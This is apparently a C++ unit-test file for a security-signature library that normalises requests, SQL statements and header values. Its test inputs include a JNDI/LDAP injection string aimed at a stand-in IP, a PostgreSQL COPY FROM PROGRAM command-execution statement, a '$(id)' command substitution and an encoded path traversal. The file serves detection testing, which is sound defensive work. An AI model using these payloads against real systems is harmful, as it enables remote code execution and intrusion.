#include "signatures/behaviour/facts.h"

#include <gtest/gtest.h>

#include "signatures/behaviour/observer.h"

namespace bulkhead::behaviour {
namespace {

TEST(Facts, PathsKeepWhatTheProgramDecides) {
  EXPECT_EQ(request_shape("GET", "/api/items/4711?sort=up"), "GET /api/items/*");
  EXPECT_EQ(request_shape("POST", "/api/cart"), "POST /api/cart");
  EXPECT_EQ(request_shape("GET", "/"), "GET /");
  EXPECT_EQ(request_shape("GET", "/a/b/c/d/e/f"), "GET /a/b/c/d/...");
  EXPECT_EQ(request_shape("GET", "/0f3c2d1e-aaaa-bbbb/x;jsessionid=1"), "GET /*/x");
  EXPECT_EQ(request_shape("GET", "/cgi-bin/%2e%2e/sh"), "GET /cgi-bin/*/sh");
  EXPECT_EQ(request_shape("OPTIONS", "*"), "OPTIONS *");
  EXPECT_EQ(request_shape("GET", ""), "GET ");
  EXPECT_EQ(request_shape("GET", "/" + std::string(40, 'x')), "GET /*");
}

TEST(Facts, StatementsKeepTheirKeywords) {
  EXPECT_EQ(statement_shape("select id, name from items where id = 7"), "SELECT FROM");
  EXPECT_EQ(statement_shape("COPY cmd_exec FROM PROGRAM 'id; select 1'"), "COPY FROM PROGRAM");
  EXPECT_EQ(statement_shape("SELECT 'it''s from', \"union\" FROM t"), "SELECT FROM");
  EXPECT_EQ(statement_shape("/* nothing */ 42"), "?");
  EXPECT_EQ(statement_shape(""), "?");
  EXPECT_EQ(statement_shape("SELECT 'never closed FROM"), "SELECT");
}

TEST(Facts, CodeInHeaders) {
  EXPECT_EQ(code_in("Mozilla/5.0 (X11; Linux x86_64)"), "");
  EXPECT_EQ(code_in("${jndi:ldap://203.0.113.1/a}"), "${");
  EXPECT_EQ(code_in("x$(id)"), "$(");
}

TEST(Facts, TextIsCutAtTheSideThatSaysLess) {
  Observation seen;
  const std::string name = std::string(100, 'a') + ".evil.example";
  seen.set_text(name, true);
  EXPECT_EQ(seen.text().size(), Observation::kTextBytes);
  EXPECT_TRUE(seen.text().ends_with("a.evil.example"));
  EXPECT_EQ(seen.whole_size, name.size());
  EXPECT_EQ(seen.number, text_hash(name));
  seen.set_text("GET /");
  EXPECT_EQ(seen.text(), "GET /");
}

TEST(Facts, Entropy) {
  std::vector<Byte> all(256);
  for (std::size_t i = 0; i < all.size(); ++i) all[i] = static_cast<Byte>(i);
  EXPECT_EQ(entropy_sixteenths(all), 8 * 16);
  EXPECT_EQ(entropy_sixteenths(std::vector<Byte>(100, 7)), 0);
  EXPECT_EQ(entropy_sixteenths({}), 0);
}

}  // namespace
}  // namespace bulkhead::behaviour
